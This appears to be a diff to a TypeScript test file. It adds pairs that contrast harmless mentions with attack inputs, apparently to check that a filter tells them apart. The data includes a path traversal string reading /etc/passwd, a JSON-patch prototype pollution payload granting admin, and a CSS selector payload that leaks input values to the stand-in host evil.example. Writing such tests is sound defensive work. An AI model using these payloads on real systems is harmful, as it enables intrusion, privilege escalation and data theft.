@@ -104,6 +104,16 @@ const pairs: readonly (readonly [string, Request, Request])[] = [
     document({ line: '203.0.113.9 GET /../../etc/passwd 404 12 ms' }),
     document({ line: '../../etc/passwd' }),
   ],
+  [
+    'a name is asked for where a key is',
+    document({ text: '__proto__' }),
+    document([{ op: 'add', path: '/__proto__/admin', value: true }]),
+  ],
+  [
+    'a style sheet asks nobody for what it matches',
+    document({ css: 'input[value^=a] { color: red }' }),
+    document({ css: 'input[value^=a]{background:url(//evil.example/a)}' }),
+  ],
 ];
 
 for (const [says, mention, attack] of pairs)
